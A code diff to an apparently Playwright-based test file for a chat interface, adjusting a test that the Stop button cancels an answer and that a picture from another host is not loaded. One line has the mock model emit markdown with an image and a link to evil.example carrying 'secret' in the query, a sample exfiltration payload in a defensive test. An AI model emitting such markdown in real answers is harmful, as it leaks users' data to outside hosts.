@@ -119,10 +119,12 @@ test("words appear while the model writes them, in a tab that is opened meanwhil
 
 test("Stop stops the answer, and a picture of another host is not loaded", async () => {
   const page = await opened();
+  const asked = model.requests.length;
   model.says("Never said.", new Promise(() => {}));
   await write(page, "Talk for ever.");
+  while (model.requests.length === asked) await new Promise((done) => setTimeout(done, 20));
   await page.getByRole("button", { name: "Stop", exact: true }).click();
-  await page.locator("#turns").getByText("Answer was cancelled.").waitFor();
+  await page.locator("#turns").getByText("Answer was cancelled.").nth(1).waitFor();
   const outside = [];
   page.on("request", (request) => request.url().startsWith(probe.url) || outside.push(request.url()));
   model.says("Look: ![a picture](https://evil.example/?q=secret) [a link](https://evil.example/x)");
